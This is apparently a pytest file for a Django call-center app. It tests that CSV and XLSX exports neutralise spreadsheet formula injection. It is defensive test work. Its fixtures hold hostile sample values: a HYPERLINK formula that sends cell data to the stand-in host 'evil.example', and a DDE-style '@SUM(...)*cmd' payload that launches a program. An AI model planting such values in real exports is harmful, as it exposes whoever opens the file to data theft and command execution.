"""Every CSV and XLSX download neutralises text a spreadsheet would run (OWASP CSV
injection): a leading `=`, `+`, `-`, `@`, tab or CR gets a single quote, and an XLSX cell
with such text is a string, not a formula. Numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from callcenter.exports import cell_safe, xlsx_append
from qa.models import Evaluation, ScorecardItem
from qa.scoring import Mark
from qa.services.evaluations import evaluation_save
from qa.services.sampling import sample_run_execute, sample_run_start
from tests.kpi.test_dashboards import today  # noqa: F401 - the seeded day of calls
from tests.qa.conftest import card, month_calls, this_month  # noqa: F401

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
SUM_CELL = "@SUM(1+1)"


def rows_of_csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def cells(rows) -> set:
    return {v for row in rows for v in row}


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+82-10-****-5678", "'+82-10-****-5678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("일반 A", "일반 A"),
        ("010-****-5678", "010-****-5678"),
        (-3.5, -3.5),
        (-7, -7),
        (None, None),
        ("", ""),
    ],
)
def test_only_text_that_would_run_is_neutralised(value, safe):
    assert cell_safe(value) == safe


def test_an_xlsx_cell_with_formula_text_is_a_string():
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    xlsx_append(book.active, ["=1+1", -2.5, "+82-10-****-5678"])
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(load_workbook(buffer).active.iter_rows())
    assert [(c.value, c.data_type) for c in row] == [
        ("'=1+1", "s"),
        (-2.5, "n"),
        ("'+82-10-****-5678", "s"),
    ]


@pytest.fixture
def formula_names(org):
    org.agent1.display_name = LINK
    org.agent1.save(update_fields=["display_name"])
    org.team_a.name = SUM
    org.team_a.save(update_fields=["name"])
    org.general.name = "=1+1"
    org.general.save(update_fields=["name"])


def test_the_kpi_csv_export_is_inert(client, org, formula_names, today):  # noqa: F811
    client.force_login(org.lead1)  # their agents and team ("=1+1 · @SUM…")
    rows = rows_of_csv(client.get(reverse("kpi:dashboard"), {"export": "csv"}))
    values = cells(rows)
    assert "'" + LINK in values and f"'=1+1 · {SUM}" in values
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values)


def test_the_kpi_xlsx_export_is_inert(client, org, formula_names, today):  # noqa: F811
    from openpyxl import load_workbook

    client.force_login(org.lead1)
    response = client.get(reverse("kpi:dashboard"), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    texts = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value}
    assert texts["'" + LINK] == "s" and texts[f"'=1+1 · {SUM}"] == "s"
    assert "f" not in set(texts.values())
    header = next(r for r in range(1, sheet.max_row) if sheet.cell(r, 1).value is None) + 1
    offered = [c for c in sheet["C"][header:] if c.value is not None]  # a count: a number
    assert offered and all(c.data_type == "n" for c in offered)


def test_every_qa_report_export_is_inert(
    client,
    org,
    formula_names,
    card,  # noqa: F811
    month_calls,  # noqa: F811
    this_month,  # noqa: F811
):
    org.lead1.display_name = "-1+1"
    org.lead1.save(update_fields=["display_name"])
    ScorecardItem.objects.filter(section__scorecard=card, text="첫인사와 소속·이름 안내").update(
        text="=1+1"
    )
    item = ScorecardItem.objects.get(section__scorecard=card, text="=1+1")
    run = sample_run_start(actor=org.trainer, month=this_month, dispatch=False)
    sample_run_execute(run_id=run.pk)
    for ev in Evaluation.objects.filter(agent=org.agent1):
        marks = {
            i.pk: Mark(not_applicable=True) if i.bonus else Mark(value=i.max_points)
            for i in ScorecardItem.objects.filter(section__scorecard=card)
        }
        marks[item.pk] = Mark(value=0)
        evaluation_save(evaluation=ev, actor=org.lead1, marks=marks, submit=True)
    client.force_login(org.trainer)
    url = reverse("qa:reports")
    found = set()
    for export, group in [
        ("scores", "agent"),
        ("scores", "team"),
        ("scores", "department"),
        ("items", "agent"),
        ("evaluators", "agent"),
        ("coverage", "agent"),
    ]:
        values = cells(rows_of_csv(client.get(url, {"export": export, "group": group})))
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values), export
        found |= values
    assert {"'" + LINK, "'" + SUM, "'=1+1", "'-1+1"} <= found
